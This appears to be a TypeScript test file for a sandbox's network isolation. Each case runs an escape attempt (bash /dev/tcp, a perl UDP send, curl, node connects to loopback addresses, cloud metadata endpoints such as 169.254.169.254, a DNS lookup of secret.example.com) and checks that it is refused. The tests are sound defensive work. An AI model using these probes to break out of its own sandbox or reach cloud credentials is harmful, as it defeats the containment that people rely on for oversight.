import { once } from "node:events";
import { createServer } from "node:net";
import { createSocket } from "node:dgram";
import { portOf } from "../sandbox/room.ts";
import { escapes } from "./escape.ts";
import { sharing } from "./weaken.ts";
import type { Scene } from "./escape.ts";

const control = "no `egress`: empty network namespace";
const ports = new Map<string, number>();
const seen = new Map<string, number>();
const port = ({ host }: Scene) => String(ports.get(host) ?? 0);

/** A TCP server of the host. The host itself counts who came. */
const listening = (address: string) => async (scene: Scene) => {
  const server = createServer((socket) => {
    seen.set(scene.host, (seen.get(scene.host) ?? 0) + 1);
    socket.end("hello from the host\n");
  });
  server.listen(0, address);
  await once(server, "listening");
  ports.set(scene.host, portOf(server));
  return () => void server.close();
};
const visits = ({ host }: Scene) => seen.get(host) ?? 0;
const twin = { without: "a network namespace of its own", weaken: () => sharing("net") };
const outside = "it would send to machines that are not ours";
const node = (script: string, ...words: string[]) => ["node", "-e", script, ...words];
const connect = `require("net").connect(+process.argv[1], process.argv[2]).on("data", (d) => console.log("connected", String(d))).on("error", (e) => console.log(e.code))`;

escapes("network", [
  {
    id: "C062",
    control,
    attack: "connects to a service of the host on 127.0.0.1",
    needs: ["node"],
    before: listening("127.0.0.1"),
    run: (scene) => node(connect, port(scene), "127.0.0.1"),
    host: visits,
    held: /^ECONNREFUSED[\s\S]*host: 0$/,
    twin: { ...twin, escaped: /^connected hello[\s\S]*host: 1$/ },
  },
  {
    id: "C051",
    control,
    attack: "connects with a shell alone (bash /dev/tcp)",
    needs: ["bash"],
    before: listening("127.0.0.1"),
    run: (scene) => ["bash", "-c", `exec 3<>/dev/tcp/127.0.0.1/${port(scene)} && cat <&3`],
    held: /Connection refused/,
    twin: { ...twin, escaped: /hello from the host/ },
  },
  {
    id: "E070",
    control,
    attack: "sends a datagram to the host",
    needs: ["perl"],
    before: async (scene) => {
      const socket = createSocket("udp4", () => seen.set(scene.host, (seen.get(scene.host) ?? 0) + 1));
      socket.bind(0, "127.0.0.1");
      await once(socket, "listening");
      ports.set(scene.host, socket.address().port);
      return () => void socket.close();
    },
    run: (scene) => [
      "perl",
      "-e",
      'socket(my $s, 2, 2, 0); print send($s, "x", 0, pack("S n a4 x8", 2, $ARGV[0], pack("C4", 127, 0, 0, 1))) ? "sent\\n" : "not sent\\n"; select(undef, undef, undef, 0.05)',
      port(scene),
    ],
    host: visits,
    held: /host: 0$/,
    twin: { ...twin, escaped: /^sent[\s\S]*host: 1$/ },
  },
  {
    id: "E071",
    control,
    attack: "connects to the host by every spelling of this machine (0.0.0.0, localhost, 127.1.2.3)",
    needs: ["node"],
    before: listening("0.0.0.0"),
    run: (scene) =>
      node(
        `for (const at of ["0.0.0.0", "localhost", "127.1.2.3"]) ${connect.replace("process.argv[2]", "at")}`,
        port(scene),
      ),
    host: visits,
    held: /^(ECONNREFUSED\n){3}[\s\S]*host: 0$/,
    twin: { ...twin, escaped: /host: [123]$/ },
  },
  {
    id: "E072",
    control,
    attack: "reads the names of the host's interfaces and its routes",
    run: () => "sed -n 's/^ *\\([^:]*\\):.*/\\1/p' /proc/net/dev; tail -n +2 /proc/net/route | wc -l",
    held: /^lo\n0\n/,
    twin: { none: "what the host has is not known to a test; `selftest` compares the namespaces" },
  },
  {
    id: "E073",
    control,
    attack: "asks the metadata service of a cloud (169.254.169.254, 168.63.129.16, fd00:ec2::254)",
    needs: ["node"],
    run: () =>
      node(
        `for (const at of ["169.254.169.254", "168.63.129.16", "fd00:ec2::254"]) ${connect.replace("process.argv[2]", "at").replace("+process.argv[1]", "80")}`,
      ),
    held: /^(ENETUNREACH\n){3}/,
    twin: { none: outside },
  },
  {
    id: "E074",
    control,
    attack: "looks up a name, the cheapest way to send something out",
    needs: ["node"],
    run: () =>
      node(
        `require("dns").lookup("secret.example.com", (e) => console.log(e.code)); new (require("dns").Resolver)({ timeout: 200, tries: 1 }).resolve4("secret.example.com", (e) => console.log(e.code))`,
      ),
    held: /EAI_AGAIN/,
    twin: { none: outside },
  },
  {
    id: "E075",
    control,
    attack: "fetches with curl",
    needs: ["curl"],
    before: listening("127.0.0.1"),
    run: (scene) => `curl -sS --max-time 5 http://127.0.0.1:${port(scene)}/ --http0.9`,
    host: visits,
    held: /connect[\s\S]*host: 0$/,
    twin: { ...twin, escaped: /hello from the host[\s\S]*host: 1$/ },
  },
]);
